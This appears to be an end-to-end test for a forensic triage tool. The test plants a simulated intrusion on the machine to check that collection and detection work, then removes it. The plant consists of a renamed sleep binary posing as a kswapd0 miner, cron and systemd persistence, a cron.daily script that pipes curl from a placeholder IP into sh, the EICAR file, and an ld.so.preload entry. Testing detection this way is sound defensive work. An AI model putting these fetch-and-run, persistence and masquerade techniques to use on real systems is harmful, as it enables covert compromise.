// A planted intrusion caught end to end, for real on this machine (issue 10): a miner — a copy of
// sleep named kswapd0 in a hidden /dev/shm folder, with a pool and wallet on its command line,
// holding a TCP connection, its binary deleted — a cron.d entry and an enabled systemd unit that
// would restart it, a /etc/cron.daily script that downloads and runs, the EICAR test file, and
// /etc/ld.so.preload inside a private mount namespace only (nothing else on the machine sees it).
// `magpie run full` collects it locally and over SSH (a real sshd on 127.0.0.1 in that namespace);
// both folders verify with sha256sum -c, ClamAV names the file, the miner's core dump is in the
// evidence, and triage flags the process, its connection, the cron entries, the unit, the preload
// and the masquerade. Then everything planted is removed (also when an assertion fails), and a
// clean run of the same machine raises nothing at high or above that it did not raise before.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import { join } from 'node:path';
import { cli, cliSpawn, pwshOrFail, readJson, readJsonl, ROOT, tempDir } from './helpers.ts';
import { EICAR, eicarDatabase, ensureLinuxTools } from './linux-tools.ts';
import { startSshd, type Sshd } from './sshd.ts';

pwshOrFail();
ensureLinuxTools();

const TAG = `magpie-e2e-${process.pid}`;
const SHM = `/dev/shm/.${TAG}`;
const MINER = join(SHM, 'kswapd0');
const CRON_D = `/etc/cron.d/${TAG}`;
const CRON_DAILY = `/etc/cron.daily/${TAG}`;
const UNIT = `/etc/systemd/system/${TAG}.service`;
const WANTS = `/etc/systemd/system/multi-user.target.wants/${TAG}.service`;
const DROP = `/tmp/${TAG}`;
const PRELOAD = '/etc/ld.so.preload';
const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

const started: ChildProcess[] = [];
let createdPreload = false;
let sshd: Sshd | undefined;
const server = net.createServer((s) => s.on('error', () => {}));

async function removePlanted(): Promise<void> {
  // Killed and reaped: a zombie kswapd0 left for the clean run would still look like the miner.
  await Promise.all(started.map((c) => (c.exitCode !== null || c.signalCode !== null ? undefined : new Promise((r) => c.once('exit', r).kill('SIGKILL')))));
  for (const f of [CRON_D, CRON_DAILY, WANTS, UNIT]) rmSync(f, { force: true });
  rmSync(SHM, { recursive: true, force: true });
  rmSync(DROP, { recursive: true, force: true });
  // Created empty (so the namespace had something to mount over); empty, it changes nothing.
  if (createdPreload && readFileSync(PRELOAD, 'utf8') === '') rmSync(PRELOAD);
  createdPreload = false;
}

/** Findings of one evidence folder, triaged by the real CLI. */
function triage(dir: string): { rule: { id: string; level: string }; kind: string; record: Record<string, any>; relatedTo?: { id: string }[] }[] {
  const r = cli(['triage', dir, '--json']);
  assert.is(r.code, 0, r.stderr);
  return readJson(join(JSON.parse(r.stdout).hosts[0].out, 'findings.json')).findings;
}

function checkEvidence(dir: string, minerPid: number, where: string): void {
  assert.is(spawnSync('sha256sum', ['-c', '--quiet', 'SHA256SUMS'], { cwd: dir, encoding: 'utf8' }).status, 0, `${where}: sha256sum -c`);
  const v = cli(['verify', dir]);
  assert.is(v.code, 0, `${where}: ${v.stdout}${v.stderr}`);
  const m = readJson(join(dir, 'manifest.json'));
  const step = (id: string) => m.steps.find((s: { id: string }) => s.id === id);
  for (const id of ['host-info', 'network', 'traffic-capture', 'processes', 'autoruns', 'av-scan', 'memory-dump', 'file-hashes']) assert.is(step(id).status, 'ok', `${where}: ${id} ${step(id).reason}`);
  const hashed = readJsonl(join(dir, step('file-hashes').dir, 'records.jsonl'));
  assert.ok(hashed.some((f) => f.path === join(DROP, 'invoice.pdf.exe') && f.sha256 === createHash('sha256').update(EICAR).digest('hex')), `${where}: the dropped file's hashes`);

  const detections = readJsonl(join(dir, step('av-scan').dir, 'records.jsonl')).filter((d) => d.type === 'threat');
  assert.equal(
    detections.map((d) => [d.path, d.threatName]),
    [[join(DROP, 'invoice.pdf.exe'), 'Magpie.Test.EICAR.UNOFFICIAL']],
    `${where}: ClamAV names the EICAR file`,
  );

  const dumps = readJsonl(join(dir, step('memory-dump').dir, 'records.jsonl'));
  const dump = dumps.find((d) => d.pid === minerPid);
  assert.ok(dump, `${where}: the miner (${minerPid}) was dumped, chosen by flagged:high; dumps: ${JSON.stringify(dumps.map((d) => [d.pid, d.name]))}`);
  const core = m.files.find((f: { path: string }) => f.path === `${step('memory-dump').dir}/files/${dump.file}`);
  assert.ok(core, `${where}: the core is in the manifest`);
  assert.is(core.sha256, dump.sha256, `${where}: the core's hash on the target is the evidence's`);
  const fd = readFileSync(join(dir, core.path)).subarray(0, 18);
  assert.ok(fd.subarray(0, 4).equals(Buffer.from([0x7f, 0x45, 0x4c, 0x46])) && fd.readUInt16LE(16) === 4, `${where}: an ELF core file`);

  const findings = triage(dir);
  const has = (rule: string, pred: (r: Record<string, any>) => boolean) => findings.some((f) => f.rule.id === rule && pred(f.record));
  const onMiner = (r: Record<string, any>) => r.pid === minerPid;
  assert.ok(has('magpie-linux-kernel-thread-lookalike', onMiner), `${where}: the masquerade`);
  assert.ok(has('magpie-linux-deleted-or-tmp-binary', onMiner), `${where}: the deleted binary in a hidden /dev/shm folder`);
  assert.ok(has('magpie-miner-commandline', onMiner), `${where}: the miner's command line`);
  const conn = findings.find((f) => f.rule.id === 'magpie-linux-flagged-process-connection' && f.record.pid === minerPid);
  assert.ok(conn?.relatedTo?.length, `${where}: the connection, tied to the process's findings`);
  const autorun = (pred: (r: Record<string, any>) => boolean) => has('magpie-linux-autorun-suspicious', pred);
  assert.ok(autorun((r) => r.location === CRON_D), `${where}: the cron.d entry`);
  assert.ok(autorun((r) => String(r.imagePath ?? r.location).includes(CRON_DAILY)), `${where}: the cron.daily downloader`);
  assert.ok(autorun((r) => String(r.entry).includes(`${TAG}.service`)), `${where}: the systemd unit`);
  assert.ok(autorun((r) => r.category === 'Preload'), `${where}: the preload`);
  assert.ok(has('magpie-linux-clamav-detection', (r) => (r.resources ?? []).includes(join(DROP, 'invoice.pdf.exe'))), `${where}: the ClamAV detection`);
}

/** Findings at high or above, keyed by rule, process and program: what a run of this machine raises. */
function loudFindings(): Map<string, string> {
  const run = cli(['run', 'triage', '--out', tempDir(), '--param', 'HashImages=false'], { timeoutMs: 600_000 });
  assert.is(run.code, 0, run.stderr);
  const out = new Map<string, string>();
  for (const f of triage(/evidence: (\S+)/.exec(run.stdout)![1])) {
    if (['high', 'critical'].includes(f.rule.level)) out.set(`${f.rule.id} ${f.record.pid ?? ''} ${f.record.path ?? f.record.location ?? ''}`, JSON.stringify(f.record).slice(0, 200));
  }
  return out;
}

test('a planted miner with its persistence, EICAR and a preload: collected locally and over SSH, verified, dumped and flagged; a clean run after has nothing at high', async () => {
  // What the machine raises before anything is planted: the machinery that runs the tests may
  // itself look suspicious (a sandbox's root runner started from a sealed memfd is fileless, and
  // triage rightly says so; a checkout in /tmp runs esbuild from there). The clean run after the
  // test must raise nothing more.
  const before = loudFindings();
  let holder: ChildProcess | undefined;
  try {
    // ---- plant ----
    mkdirSync(SHM, { recursive: true });
    copyFileSync('/bin/sleep', MINER);
    chmodSync(MINER, 0o755);
    copyFileSync('/usr/lib/x86_64-linux-gnu/libm.so.6', join(SHM, 'libhide.so'));
    await new Promise<void>((res, rej) => server.once('error', rej).listen(0, '127.0.0.1', res));
    const port = (server.address() as net.AddressInfo).port;
    const sock = net.connect(port, '127.0.0.1');
    await new Promise<void>((res, rej) => sock.once('connect', res).once('error', rej));
    // The miner gets the connected socket as its fd 3; the test lets go of its own copy.
    const miner = spawn(MINER, ['3601'], { argv0: `kswapd0 -o stratum+tcp://pool.example.net:3333 -u ${WALLET} --donate-level 1`, stdio: ['ignore', 'ignore', 'ignore', sock] });
    started.push(miner);
    sock.destroy();
    await new Promise((r) => setTimeout(r, 200));
    rmSync(MINER);
    writeFileSync(CRON_D, `*/10 * * * * root ${MINER} >/dev/null 2>&1\n`, { mode: 0o644 });
    writeFileSync(CRON_DAILY, '#!/bin/sh\ncurl -fsSL http://203.0.113.7/update.sh | sh\n', { mode: 0o755 });
    writeFileSync(UNIT, `[Unit]\nDescription=Kernel swap helper\n\n[Service]\nExecStart=${MINER}\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n`);
    mkdirSync('/etc/systemd/system/multi-user.target.wants', { recursive: true });
    symlinkSync(UNIT, WANTS);
    mkdirSync(DROP, { recursive: true });
    writeFileSync(join(DROP, 'invoice.pdf.exe'), EICAR);
    writeFileSync(join(DROP, 'notes.txt'), 'nothing to see\n');
    const db = eicarDatabase(join(tempDir(), 'clamav-db'));

    // ld.so.preload inside a private mount namespace only, held open by a sleeping process.
    if (!existsSync(PRELOAD)) {
      writeFileSync(PRELOAD, '');
      createdPreload = true;
    }
    const preloadFile = join(tempDir(), 'ld.so.preload');
    writeFileSync(preloadFile, `${join(SHM, 'libhide.so')}\n`);
    holder = spawn('unshare', ['--mount', '--propagation', 'private', 'sleep', '3602'], { stdio: 'ignore' });
    started.push(holder);
    await new Promise((r) => setTimeout(r, 300));
    const nsenter = ['-t', String(holder.pid), '-m', '--'];
    const mount = spawnSync('nsenter', [...nsenter, 'mount', '--bind', preloadFile, PRELOAD], { encoding: 'utf8' });
    assert.is(mount.status, 0, `mount in the namespace: ${mount.stderr}`);
    assert.not.ok(readFileSync(PRELOAD, 'utf8').includes('libhide'), 'outside the namespace nothing is preloaded');

    const params = ['--param', `av-scan.Paths=${DROP}`, '--param', `av-scan.DatabasePath=${db}`, '--param', `file-hashes.Paths=${DROP}`, '--param', 'HashImages=false', '--param', 'CaptureSeconds=3'];

    // ---- collect: locally (inside the namespace), and over SSH (an sshd in the namespace) ----
    const out = tempDir();
    const local = spawnSync('nsenter', [...nsenter, process.execPath, join(ROOT, 'bin', 'magpie.js'), 'run', 'full', '--out', out, '--case', 'e2e', ...params], {
      encoding: 'utf8',
      timeout: 900_000,
      env: { ...process.env, NO_COLOR: '1' },
    });
    assert.is(local.status, 0, local.stderr + local.stdout);
    const localDir = /evidence: (\S+)/.exec(local.stdout)![1];

    sshd = await startSshd({ mountNamespaceOf: holder.pid });
    const known = join(tempDir(), 'known_hosts');
    writeFileSync(known, sshd.knownHostsLine('ed25519') + '\n');
    const remote = await cliSpawn(['run', 'full', '--transport', 'ssh', '--target', `root@127.0.0.1:${sshd.port}`, '--known-hosts', known, '-i', sshd.userKey, '--out', out, '--case', 'e2e', ...params]).done;
    assert.is(remote.code, 0, remote.stderr + remote.stdout);
    const remoteDir = /evidence: (\S+)/.exec(remote.stdout)![1];

    checkEvidence(localDir, miner.pid!, 'local');
    checkEvidence(remoteDir, miner.pid!, 'ssh');
  } finally {
    await sshd?.stop();
    await removePlanted();
    server.close();
  }

  // ---- the same machine, clean ----
  assert.not.ok(existsSync(SHM) || existsSync(CRON_D) || existsSync(UNIT), 'everything planted is gone');
  const after = loudFindings();
  assert.equal(
    [...after].filter(([key]) => !before.has(key)).map(([key, record]) => `${key}: ${record}`),
    [],
    'a clean run has nothing at high or above that the machine did not have before the test',
  );
});

test.run();
